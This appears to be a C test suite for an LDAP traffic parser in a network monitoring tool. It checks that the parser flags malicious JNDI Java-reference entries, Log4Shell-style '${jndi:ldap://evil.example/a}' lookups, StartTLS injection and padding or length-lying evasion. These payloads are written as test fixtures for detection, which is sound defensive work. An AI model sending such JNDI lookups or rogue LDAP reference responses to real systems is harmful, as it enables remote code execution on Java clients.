// SPDX-License-Identifier: GPL-2.0-or-later
// LDAP: what a JNDI client would act on must be told on the segment that completes it, however it is written and cut.
#include "ldap_maker.h"

static struct caught caught;

static const struct proto_flow outward = {
	.direction = DIRECTION_OUT,
	.transport = 6,
	.client_port = 40000,
	.server_port = 1389,
};

static struct talk one_line(const struct proto_ops *ops, const struct line *line)
{
	return (struct talk){.ops = ops, .flow = outward, .lines = line, .count = 1};
}

static void server_says(const struct maker *m)
{
	struct line line = {false, made(m)};
	struct talk talk = one_line(&proto_ldap, &line);

	talk_check(&talk, &caught);
}

static void client_says(const struct maker *m)
{
	struct line line = {true, made(m)};
	struct talk talk = one_line(&proto_ldap, &line);

	talk_check(&talk, &caught);
}

static void expect_operation(size_t i, unsigned operation, unsigned id)
{
	ck_assert_uint_lt(i, caught.count);
	ck_assert_uint_eq(caught.o[i].kind, OBS_LDAP);
	ck_assert_uint_eq(caught.o[i].app, APP_LDAP);
	ck_assert_uint_eq(caught.o[i].number[NUM_LDAP_OPERATION], operation);
	ck_assert_uint_eq(caught.o[i].number[NUM_LDAP_MESSAGE_ID], id);
}

static bool has_fact(size_t i, enum fact f)
{
	return i < caught.count && caught.o[i].facts & FACT_BIT(f);
}

static struct maker a, m; // attributes, message

static void start(void)
{
	a.n = m.n = 0;
	caught.count = 0;
}

static void bind_and_search(struct maker *to)
{
	static const uint8_t bind[] = {0x30, 0x0c, 0x02, 0x01, 0x01, 0x60, 0x07,
				       0x02, 0x01, 0x03, 0x04, 0x00, 0x80, 0x00};
	struct maker *op = &a;

	op->n = 0;
	make(to, bind, sizeof(bind));
	octets(op, "Basic/Command");
	MAKE(op, 0x0a, 1, 0, 0x0a, 1, 3, 0x02, 1, 0, 0x02, 1, 0, 0x01, 1, 0, 0x87, 11);
	make_text(op, "objectClass");
	MAKE(op, 0x30, 0);
	message(to, 2, 0x63, made(op), 0);
}

START_TEST(a_bind_and_a_search_in_one_segment_are_two_observations)
{
	start();
	bind_and_search(&m);
	client_says(&m);
	ck_assert_uint_eq(caught.count, 2);
	expect_operation(0, LDAP_BIND_REQUEST, 1);
	expect_operation(1, LDAP_SEARCH_REQUEST, 2);
	talk_expect_text(&caught.o[1], TEXT_LDAP_NAME, "Basic/Command");
	talk_expect_text(&caught.o[1], TEXT_LDAP_FILTER, "(objectClass=*)");
	talk_expect_probe(&proto_ldap, made(&m), true);
}
END_TEST

START_TEST(an_entry_with_a_code_base_is_a_java_reference)
{
	start();
	reference_attributes(&a);
	entry(&m, "o=x", made(&a), 0);
	server_says(&m);
	ck_assert_uint_eq(caught.count, 1);
	expect_operation(0, LDAP_SEARCH_ENTRY, 2);
	ck_assert(has_fact(0, FACT_LDAP_JAVA_REFERENCE));
	talk_expect_text(&caught.o[0], TEXT_LDAP_NAME, "o=x");
	talk_expect_text(&caught.o[0], TEXT_LDAP_CODEBASE, "http://198.51.100.7:8080/");
	talk_expect_text(&caught.o[0], TEXT_LDAP_FACTORY, "Exploit");
	talk_expect_text(&caught.o[0], TEXT_LDAP_CLASS, "foo");
}
END_TEST

static const char *const java_types[] = {
	"javaCodeBase",         "JAVACODEBASE",       "javacodebase;x-option",
	"javaFactory",          "javaSerializedData", "javaSerializedData;binary",
	"javaReferenceAddress", "javaRemoteLocation",
};

START_TEST(each_java_attribute_alone_is_enough_in_any_case_and_with_options)
{
	start();
	text_attribute(&a, java_types[_i], "x");
	entry(&m, "", made(&a), 0);
	server_says(&m);
	ck_assert_uint_eq(caught.count, 1);
	ck_assert(has_fact(0, FACT_LDAP_JAVA_REFERENCE));
}
END_TEST

START_TEST(a_class_name_alone_or_a_java_word_in_a_value_is_no_reference)
{
	start();
	text_attribute(&a, "javaClassName", "foo");
	text_attribute(&a, "description", "javaCodeBase");
	text_attribute(&a, "javaCodeBases", "x");
	text_attribute(&a, "javaFactory", "");
	entry(&m, "cn=javaCodeBase", made(&a), 0);
	server_says(&m);
	ck_assert_uint_eq(caught.count, 1);
	ck_assert_uint_eq(caught.o[0].facts & FACT_BIT(FACT_LDAP_JAVA_REFERENCE), 0);
}
END_TEST

START_TEST(lengths_in_long_form_change_nothing)
{
	static const unsigned forms[] = {1, 2, 4, 5, 8, 40};

	for (size_t i = 0; i < sizeof(forms) / sizeof(forms[0]); i++) {
		start();
		reference_attributes(&a);
		entry(&m, "o=x", made(&a), forms[i]);
		server_says(&m);
		ck_assert_uint_eq(caught.count, 1);
		ck_assert(has_fact(0, FACT_LDAP_JAVA_REFERENCE));
	}
}
END_TEST

// How long an entry is padded, and where the code base stands in it.
START_TEST(padding_does_not_hide_an_attribute_behind_the_collected_bytes)
{
	static const size_t pads[] = {100, 8000, 8130, 8150, 8192, 8300, 20000, 70000};
	static uint8_t filler[70000];

	memset(filler, 'x', sizeof(filler));
	for (size_t i = 0; i < sizeof(pads) / sizeof(pads[0]); i++) {
		start();
		attribute(&a, "description", bytes_of(filler, pads[i]));
		reference_attributes(&a);
		entry(&m, "o=x", made(&a), 0);
		server_says(&m);
		ck_assert_uint_eq(caught.count, 1);
		ck_assert(has_fact(0, FACT_LDAP_JAVA_REFERENCE));
		talk_expect_text(&caught.o[0], TEXT_LDAP_CODEBASE, "http://198.51.100.7:8080/");
		talk_expect_text(&caught.o[0], TEXT_LDAP_FACTORY, "Exploit");
	}
}
END_TEST

START_TEST(many_small_attributes_before_it_do_not_hide_one_either)
{
	start();
	for (unsigned i = 0; i < 1500; i++)
		text_attribute(&a, "cn", "padding");
	reference_attributes(&a);
	entry(&m, "o=x", made(&a), 0);
	server_says(&m);
	ck_assert_uint_eq(caught.count, 1);
	ck_assert(has_fact(0, FACT_LDAP_JAVA_REFERENCE));
	talk_expect_text(&caught.o[0], TEXT_LDAP_FACTORY, "Exploit");
}
END_TEST

START_TEST(serialized_data_longer_than_the_buffer_is_told_with_what_follows_it)
{
	static uint8_t gadget[30000];

	start();
	attribute(&a, "javaSerializedData", bytes_of(gadget, sizeof(gadget)));
	text_attribute(&a, "javaCodeBase", "http://198.51.100.7/");
	entry(&m, "o=x", made(&a), 0);
	message(&m, 3, 0x65, bytes_of("\x0a\x01\x00\x04\x00\x04\x00", 7), 0);
	server_says(&m);
	ck_assert_uint_eq(caught.count, 2);
	ck_assert(has_fact(0, FACT_LDAP_JAVA_REFERENCE));
	talk_expect_text(&caught.o[0], TEXT_LDAP_CODEBASE, "http://198.51.100.7/");
	expect_operation(1, LDAP_SEARCH_DONE, 3);
}
END_TEST

START_TEST(the_last_byte_of_an_entry_raises_the_fact_and_none_before_it)
{
	static struct caught early;
	struct line line;
	struct talk talk;

	start();
	reference_attributes(&a);
	entry(&m, "o=x", made(&a), 0);
	for (size_t n = 1; n <= m.n; n++) {
		line = (struct line){false, bytes_of(m.b, n)};
		talk = one_line(&proto_ldap, &line);
		talk_play(&talk, 0, 0, 0, &early);
		ck_assert_uint_eq(early.count, n == m.n);
	}
}
END_TEST

START_TEST(a_long_entry_cut_by_the_end_of_the_connection_is_still_told)
{
	static uint8_t gadget[9000];
	struct line line = {false, {NULL, 0}};
	struct talk talk = one_line(&proto_ldap, &line);

	start();
	text_attribute(&a, "javaFactory", "Exploit");
	attribute(&a, "javaSerializedData", bytes_of(gadget, sizeof(gadget)));
	entry(&m, "o=x", made(&a), 0);
	line.said = bytes_of(m.b, m.n - 1);
	talk.closes = true;
	talk_check(&talk, &caught);
	ck_assert_uint_eq(caught.count, 1);
	ck_assert(has_fact(0, FACT_LDAP_JAVA_REFERENCE));
}
END_TEST

START_TEST(bytes_a_java_client_skips_do_not_hide_the_entry_behind_them)
{
	static const struct {
		const char *bytes;
		size_t n;
	} noises[] = {
		{"\x00", 1},
		{"\xff\xfe\xfd", 3},
		{"\x30\x80", 2}, // indefinite length
		{"\x30\x00", 2}, // empty
		{"\x30\x84\xff\xff\xff\xff", 6},
		{"\x30\x03\x02\x01\x01", 5},         // no operation
		{"\x30\x05\x02\x01\x01\x1f\x00", 7}, // a tag of several octets
		{"\x30\x04\x04\x02xx", 6},           // no message id
		{"GET / HTTP/1.1\r\n\r\n", 18},
	};

	for (size_t i = 0; i < sizeof(noises) / sizeof(noises[0]); i++) {
		start();
		reference_attributes(&a);
		make(&m, noises[i].bytes, noises[i].n);
		entry(&m, "o=x", made(&a), 0);
		server_says(&m);
		ck_assert_uint_eq(caught.count, 1);
		ck_assert(has_fact(0, FACT_LDAP_JAVA_REFERENCE));
		ck_assert_int_eq(caught.result, PARSE_MORE);
	}
}
END_TEST

START_TEST(nothing_but_noise_ends_in_bad)
{
	static const uint8_t indefinite[] = {0x30, 0x80};

	start();
	for (unsigned i = 0; i < 2500; i++)
		make(&m, indefinite, sizeof(indefinite));
	server_says(&m);
	ck_assert_uint_eq(caught.count, 0);
	ck_assert_int_eq(caught.result, PARSE_BAD);
}
END_TEST

START_TEST(inner_lengths_that_lie_do_not_hide_an_attribute)
{
	size_t list;

	start();
	reference_attributes(&a);
	for (size_t i = 1; i < a.n; i++) { // every inner octet that may be a length, made too small and too large
		static const uint8_t lies[] = {0x00, 0x01, 0x7f, 0x80};

		if (i != 1 && i + 1 != a.n && a.b[i - 1] != 0x30)
			continue;
		for (size_t lie = 0; lie < sizeof(lies); lie++) {
			m.n = 0;
			entry(&m, "o=x", made(&a), 0);
			list = m.n - a.n;
			m.b[list + i] = lies[lie];
			server_says(&m);
			ck_assert_uint_eq(caught.count, 1);
			ck_assert(has_fact(0, FACT_LDAP_JAVA_REFERENCE));
		}
	}
}
END_TEST

START_TEST(results_carry_their_code_and_referral)
{
	static const uint8_t result[] = {0x0a, 0x01, 10, 0x04, 0, 0x04, 0};
	static struct maker op, uris;

	start();
	op.n = uris.n = 0;
	make(&op, result, sizeof(result));
	octets(&uris, "ldap://198.51.100.7/o=x");
	octets(&uris, "ldap://198.51.100.8/o=x");
	tlv(&op, 0xa3, made(&uris), 0);
	message(&m, 2, 0x65, made(&op), 0);
	message(&m, 3, 0x73, made(&uris), 0);
	message(&m, 4, 0x61, bytes_of("\x0a\x01\x31\x04\x00\x04\x00", 7), 0);
	server_says(&m);
	ck_assert_uint_eq(caught.count, 3);
	expect_operation(0, LDAP_SEARCH_DONE, 2);
	ck_assert_uint_eq(caught.o[0].number[NUM_LDAP_RESULT], 10);
	for (size_t i = 0; i < 2; i++) {
		ck_assert(has_fact(i, FACT_LDAP_REFERRAL));
		ck_assert(!has_fact(i, FACT_LDAP_JAVA_REFERENCE));
		talk_expect_text(&caught.o[i], TEXT_LDAP_REFERRAL, "ldap://198.51.100.7/o=x");
	}
	expect_operation(1, LDAP_SEARCH_REFERENCE, 3);
	expect_operation(2, LDAP_BIND_RESPONSE, 4);
	ck_assert_uint_eq(caught.o[2].number[NUM_LDAP_RESULT], 49);
	ck_assert(!has_fact(2, FACT_LDAP_REFERRAL));
}
END_TEST

// A ClientHello of TLS 1.2 without extensions.
static const uint8_t bare_hello[5 + 4 + 2 + 32 + 1 + 4 + 2] = {
	0x16, 3, 1, 0, 45, 1, 0, 0, 41, 3, 3, [5 + 4 + 2 + 32 + 1] = 0, 2, 0x13, 1, 1, 0};

static void start_tls(uint8_t result, uint8_t answer_id)
{
	static struct maker ask, answer, op;
	const uint8_t body[] = {0x0a, 0x01, result, 0x04, 0, 0x04, 0};
	const struct line lines[] = {{true, {NULL, 0}}, {false, {NULL, 0}}, {true, bytes_of(bare_hello, sizeof(bare_hello))}};
	struct line said[3];
	struct talk talk = {.ops = &proto_ldap, .flow = outward, .lines = said, .count = 3};

	ask.n = answer.n = op.n = 0;
	tlv(&op, 0x80, bytes_of_text("1.3.6.1.4.1.1466.20037"), 0);
	message(&ask, 7, 0x77, made(&op), 0);
	message(&answer, answer_id, 0x78, bytes_of(body, sizeof(body)), 0);
	memcpy(said, lines, sizeof(said));
	said[0].said = made(&ask);
	said[1].said = made(&answer);
	talk_check(&talk, &caught);
}

START_TEST(after_start_tls_succeeds_the_flow_is_tls)
{
	start();
	start_tls(0, 7);
	ck_assert_uint_eq(caught.count, 3);
	expect_operation(0, LDAP_EXTENDED_REQUEST, 7);
	talk_expect_text(&caught.o[0], TEXT_LDAP_NAME, "1.3.6.1.4.1.1466.20037");
	expect_operation(1, LDAP_EXTENDED_RESPONSE, 7);
	ck_assert_uint_eq(caught.o[1].number[NUM_LDAP_INJECTED], 0);
	ck_assert_uint_eq(caught.o[2].kind, OBS_TLS);
	ck_assert_uint_eq(caught.o[2].app, APP_LDAP);
	ck_assert_int_eq(caught.result, PARSE_MORE);
}
END_TEST

// Line by line; "tls" is a hello.
static void say_around_start_tls(const char *const *order, size_t count)
{
	static struct maker ask, answer, search, result, op;
	static struct line said[8];
	struct talk talk = {.ops = &proto_ldap, .flow = outward, .lines = said, .count = count};
	const uint8_t granted[] = {0x0a, 1, 0, 4, 0, 4, 0};

	start();
	ask.n = answer.n = search.n = result.n = op.n = 0;
	tlv(&op, 0x80, bytes_of_text("1.3.6.1.4.1.1466.20037"), 0);
	message(&ask, 7, 0x77, made(&op), 0);
	message(&answer, 7, 0x78, bytes_of(granted, sizeof(granted)), 0);
	message(&search, 8, 0x42, bytes_of(NULL, 0), 0);
	reference_attributes(&a);
	entry(&result, "o=x", made(&a), 0);
	for (size_t i = 0; i < count; i++) {
		const struct {
			const char *word;
			struct line line;
		} words[] = {{"ask", {true, made(&ask)}}, {"granted", {false, made(&answer)}}, {"unbind", {true, made(&search)}},
			     {"entry", {false, made(&result)}}, {"tls", {true, bytes_of(bare_hello, sizeof(bare_hello))}}};

		for (size_t n = 0; n < sizeof(words) / sizeof(words[0]); n++)
			if (strcmp(words[n].word, order[i]) == 0)
				said[i] = words[n].line;
	}
	talk_check(&talk, &caught);
}

START_TEST(a_message_in_clear_behind_start_tls_is_read_and_marked)
{
	say_around_start_tls((const char *const[]){"ask", "unbind", "granted", "tls"}, 4); // pipelined
	ck_assert_uint_eq(caught.count, 4);
	ck_assert_uint_eq(caught.o[0].number[NUM_LDAP_INJECTED], 0);
	ck_assert_uint_eq(caught.o[1].number[NUM_LDAP_INJECTED], 1);
	ck_assert_uint_eq(caught.o[2].number[NUM_LDAP_INJECTED], 0);
	ck_assert_uint_eq(caught.o[3].kind, OBS_TLS);
	say_around_start_tls((const char *const[]){"ask", "granted", "entry", "tls"}, 4); // by the server
	ck_assert_uint_eq(caught.count, 4);
	ck_assert_uint_eq(caught.o[2].number[NUM_LDAP_INJECTED], 1);
	ck_assert(has_fact(2, FACT_LDAP_JAVA_REFERENCE));
	ck_assert_uint_eq(caught.o[3].kind, OBS_TLS);
	say_around_start_tls((const char *const[]){"ask", "granted", "unbind", "entry"}, 4); // never TLS at all
	ck_assert_uint_eq(caught.count, 4);
	ck_assert_uint_eq(caught.o[3].number[NUM_LDAP_INJECTED], 1);
	ck_assert(has_fact(3, FACT_LDAP_JAVA_REFERENCE));
	say_around_start_tls((const char *const[]){"ask", "tls", "granted"}, 3); // without waiting for the answer
	ck_assert_uint_eq(caught.count, 2);
	ck_assert_uint_eq(caught.o[1].kind, OBS_TLS);
	say_around_start_tls((const char *const[]){"unbind", "entry", "ask", "granted"}, 4); // before it nothing is odd
	for (size_t i = 0; i < 4; i++)
		ck_assert_uint_eq(caught.o[i].number[NUM_LDAP_INJECTED], 0);
}
END_TEST

START_TEST(a_refused_or_unasked_start_tls_leaves_the_parser_listening)
{
	start();
	start_tls(2, 7);
	ck_assert_int_eq(caught.result, PARSE_MORE);
	start_tls(0, 8);
	ck_assert_int_eq(caught.result, PARSE_MORE);
}
END_TEST

START_TEST(a_sasl_security_layer_ends_the_parser)
{
	static struct maker bind, answer;
	static const uint8_t sasl[] = {0x02, 1, 3, 0x04, 0, 0xa3, 8, 0x04, 6, 'G', 'S', 'S', 'A', 'P', 'I'};
	const uint8_t wrapped[] = {0, 0, 0, 9, 1, 2, 3, 4, 5, 6, 7, 8, 9};
	struct line lines[3];
	struct talk talk = {.ops = &proto_ldap, .flow = outward, .lines = lines, .count = 3};

	bind.n = answer.n = 0;
	message(&bind, 1, 0x60, bytes_of(sasl, sizeof(sasl)), 0);
	message(&answer, 1, 0x61, bytes_of("\x0a\x01\x00\x04\x00\x04\x00", 7), 0);
	lines[0] = (struct line){true, made(&bind)};
	lines[1] = (struct line){false, made(&answer)};
	lines[2] = (struct line){true, bytes_of(wrapped, sizeof(wrapped))};
	talk_check(&talk, &caught);
	ck_assert_uint_eq(caught.count, 2);
	ck_assert_int_eq(caught.result, PARSE_DONE);
}
END_TEST

START_TEST(after_a_gap_the_next_message_is_found)
{
	struct line lines[2];
	struct talk talk = {.ops = &proto_ldap, .flow = outward, .lines = lines, .count = 2, .gap_before = 2};
	static const uint8_t head[] = {0x30, 0x82, 0x10, 0x00, 0x02, 0x01, 0x02, 0x64};

	start();
	make_text(&m, "end of something, 0 with a 0");
	reference_attributes(&a);
	entry(&m, "o=x", made(&a), 0);
	lines[0] = (struct line){false, bytes_of(head, sizeof(head))};
	lines[1] = (struct line){false, made(&m)};
	talk_play(&talk, 0, 0, 0, &caught);
	ck_assert_uint_eq(caught.count, 1);
	ck_assert(has_fact(0, FACT_LDAP_JAVA_REFERENCE));
}
END_TEST

START_TEST(look_alikes_are_not_recognised)
{
	static const struct {
		const char *bytes;
		size_t n;
	} others[] = {
		{"\x30\x82\x02\x5c\x02\x01\x00\x02\x81\x81", 10}, // RSA private key
		{"\x30\x82\x03\x00\x30\x82\x02\x00", 8},          // certificate
		{"\x30\x29\x02\x01\x01\x04\x06public", 13},       // SNMP
		{"\x30\x80\x02\x01\x01\x60", 6},                  // indefinite length
		{"GET / HTTP/1.1", 14},
		{"0 OK\r\n", 6},
	};

	for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++)
		ck_assert_int_eq(proto_ldap.probe(talk_at_edge(bytes_of(others[i].bytes, others[i].n)), true),
				 PROBE_NO);
}
END_TEST

#include "ldap_test_filter.h"
#include "ldap_test_lies.h"

START_TEST(a_look_up_sent_from_outside_in_a_name_is_found)
{
	static const struct proto_flow inward = {
		.direction = DIRECTION_IN, .transport = 6, .client_port = 40000, .server_port = 389};
	struct line line = {true, {NULL, 0}};
	struct talk talk = {.ops = &proto_ldap, .flow = inward, .lines = &line, .count = 1};
	static struct maker op;

	start();
	op.n = 0;
	MAKE(&op, 0x02, 1, 3);
	octets(&op, "cn=${jndi:ldap://198.51.100.7/a}");
	MAKE(&op, 0x80, 0);
	message(&m, 1, 0x60, made(&op), 0);
	line.said = made(&m);
	talk_check(&talk, &caught);
	ck_assert_uint_eq(caught.count, 2);
	ck_assert_uint_eq(caught.o[1].kind, OBS_JNDI);
}
END_TEST

// Whatever of a message the record shows: a name is longer than that, values and passwords are not shown at all.
START_TEST(a_look_up_sent_from_outside_anywhere_in_a_message_is_found)
{
	static const struct proto_flow inward = {
		.direction = DIRECTION_IN, .transport = 6, .client_port = 40000, .server_port = 389};
	static const uint8_t tags[] = {0x60, 0x68, 0x1f}; // bind, add, nothing known
	struct line line = {true, {NULL, 0}};
	struct talk talk = {.ops = &proto_ldap, .flow = inward, .lines = &line, .count = 1};
	static struct maker op, name;

	for (size_t i = 0; i < sizeof(tags); i++) {
		start();
		op.n = name.n = 0;
		for (unsigned n = 0; n < 300; n++)
			make_text(&name, "cn=padding,");
		make_text(&name, "cn=${jndi:ldap://evil.example/a}");
		if (tags[i] == 0x60)
			MAKE(&op, 0x02, 1, 3);
		tlv(&op, 0x04, made(&name), 0);
		text_attribute(&op, "cn", "x");
		message(&m, 1, tags[i], made(&op), 0);
		line.said = made(&m);
		talk_check(&talk, &caught);
		ck_assert_uint_ge(caught.count, 1);
		ck_assert_uint_eq(caught.o[caught.count - 1].kind, OBS_JNDI);
		ck_assert(!caught.marked[COUNT_PROTO_BUDGET]);
	}
	start();
	while (name.n < 9000)
		make_text(&name, ",cn=padding");
	tlv(&m, 0x04, made(&name), 0);
	op.n = 0;
	message(&op, 1, 0x68, made(&m), 0);
	line.said = made(&op);
	talk_check(&talk, &caught);
	ck_assert(caught.marked[COUNT_PROTO_BUDGET]);
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("ldap");
	TCase *t = tcase_create("ldap");

	suite_add_tcase(suite, t);
	tcase_set_timeout(t, 100);
	tcase_add_test(t, a_bind_and_a_search_in_one_segment_are_two_observations);
	tcase_add_test(t, an_entry_with_a_code_base_is_a_java_reference);
	tcase_add_loop_test(t, each_java_attribute_alone_is_enough_in_any_case_and_with_options, 0,
			    sizeof(java_types) / sizeof(java_types[0]));
	tcase_add_test(t, a_class_name_alone_or_a_java_word_in_a_value_is_no_reference);
	tcase_add_test(t, lengths_in_long_form_change_nothing);
	tcase_add_test(t, padding_does_not_hide_an_attribute_behind_the_collected_bytes);
	tcase_add_test(t, many_small_attributes_before_it_do_not_hide_one_either);
	tcase_add_test(t, serialized_data_longer_than_the_buffer_is_told_with_what_follows_it);
	tcase_add_test(t, the_last_byte_of_an_entry_raises_the_fact_and_none_before_it);
	tcase_add_test(t, a_long_entry_cut_by_the_end_of_the_connection_is_still_told);
	tcase_add_test(t, bytes_a_java_client_skips_do_not_hide_the_entry_behind_them);
	tcase_add_test(t, nothing_but_noise_ends_in_bad);
	tcase_add_test(t, inner_lengths_that_lie_do_not_hide_an_attribute);
	tcase_add_test(t, results_carry_their_code_and_referral);
	tcase_add_test(t, after_start_tls_succeeds_the_flow_is_tls);
	tcase_add_test(t, a_message_in_clear_behind_start_tls_is_read_and_marked);
	tcase_add_test(t, a_refused_or_unasked_start_tls_leaves_the_parser_listening);
	tcase_add_test(t, a_sasl_security_layer_ends_the_parser);
	tcase_add_test(t, after_a_gap_the_next_message_is_found);
	add_filter_tests(t);
	add_lies_tests(t);
	tcase_add_test(t, look_alikes_are_not_recognised);
	tcase_add_test(t, a_look_up_sent_from_outside_in_a_name_is_found);
	tcase_add_test(t, a_look_up_sent_from_outside_anywhere_in_a_message_is_found);
	return talk_run(suite);
}
